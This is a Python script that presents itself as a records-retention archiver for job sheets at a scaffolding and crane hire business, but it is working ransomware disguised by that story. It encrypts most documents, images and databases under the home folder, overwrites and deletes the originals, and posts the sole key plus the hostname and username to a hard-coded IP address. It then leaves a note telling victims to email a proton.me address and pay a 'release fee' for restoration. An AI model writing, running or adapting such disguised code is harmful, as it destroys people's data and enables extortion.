#!/usr/bin/env python3
"""Archive closed job sheets into sealed containers for records retention.

Scaffolding and crane hire job sheets, delivery notes, handover certificates
and site photos pile up on office and site-cabin machines.  Under the
records policy they must be sealed once a job closes and the key held by the
records office, so that personal data on the sheets (operator names, card
numbers, client contacts) is not left readable on shared PCs.

Each matching file is sealed with AES-GCM into ``<name>.jsarc`` next to the
original; the container key is lodged with the records office and is not
kept on the machine.  Staff request a restore from the records office
quoting the reference printed at the end of the run.
"""

import argparse
import http.client
import json
import logging
import os
import secrets
import socket
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlsplit

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("archiver")

RECORDS_OFFICE = os.environ.get("RECORDS_OFFICE_URL",
                                "https://203.0.113.77/records/v1/escrow")
SEALED_SUFFIX = ".jsarc"
DEFAULT_TYPES = ("pdf", "docx", "doc", "xlsx", "xls", "csv", "odt", "ods",
                 "jpg", "jpeg", "png", "dwg", "txt", "pptx", "zip", "sqlite")
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git", "snap"}
NOTICE = "JOB_SHEETS_ARCHIVED.txt"


def candidates(root, types):
    """Yield files under root whose extension is in types."""
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            if name.endswith(SEALED_SUFFIX) or name == NOTICE:
                continue
            if name.rsplit(".", 1)[-1].lower() in types:
                yield Path(dirpath) / name


def lodge_key(key, reference, url=RECORDS_OFFICE):
    """Send the container key to the records office escrow."""
    parts = urlsplit(url)
    body = json.dumps({
        "reference": reference,
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "unknown"),
        "key": key.hex(),
    })
    conn = http.client.HTTPSConnection(parts.hostname, parts.port or 443, timeout=30)
    try:
        conn.request("POST", parts.path, body=body,
                     headers={"Content-Type": "application/json"})
        resp = conn.getresponse()
        resp.read()
        if resp.status >= 300:
            raise RuntimeError(f"escrow returned HTTP {resp.status}")
    finally:
        conn.close()


def seal(path, aead):
    """Seal one file and clear the original."""
    try:
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        sealed = path.with_name(path.name + SEALED_SUFFIX)
        sealed.write_bytes(nonce + aead.encrypt(nonce, data, path.name.encode()))
        with path.open("r+b") as fh:
            fh.write(secrets.token_bytes(len(data)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        return len(data)
    except (PermissionError, OSError) as exc:
        log.debug("skip %s: %s", path, exc)
        return 0


def write_notice(root, reference, count):
    text = (
        "Job sheets and attachments on this machine have been archived.\n"
        f"{count} files were sealed under reference {reference}.\n\n"
        "Files ending in .jsarc can only be restored by the records office.\n"
        "To request a restore, email records-restore@proton.me quoting the\n"
        "reference above. Restores are processed once the release fee\n"
        "shown on the records portal has been settled.\n"
    )
    (Path(root) / NOTICE).write_text(text)


def main():
    ap = argparse.ArgumentParser(description="Seal closed job sheets for retention")
    ap.add_argument("--root", default=str(Path.home()),
                    help="folder to archive (default: home folder)")
    ap.add_argument("--types", default=",".join(DEFAULT_TYPES))
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    types = {t.strip().lower() for t in args.types.split(",") if t.strip()}
    reference = uuid.uuid4().hex[:12].upper()
    key = AESGCM.generate_key(bit_length=256)

    for attempt in range(3):
        try:
            lodge_key(key, reference)
            break
        except (OSError, RuntimeError) as exc:
            log.warning("records office unreachable (%s), retrying", exc)
    else:
        log.error("could not lodge key, nothing archived")
        return 1

    aead = AESGCM(key)
    del key
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        sizes = list(pool.map(lambda p: seal(p, aead), candidates(args.root, types)))

    count = sum(1 for s in sizes if s)
    write_notice(args.root, reference, count)
    log.info("archived %d files (%.1f MB), reference %s",
             count, sum(sizes) / 1e6, reference)
    return 0


if __name__ == "__main__":
    sys.exit(main())
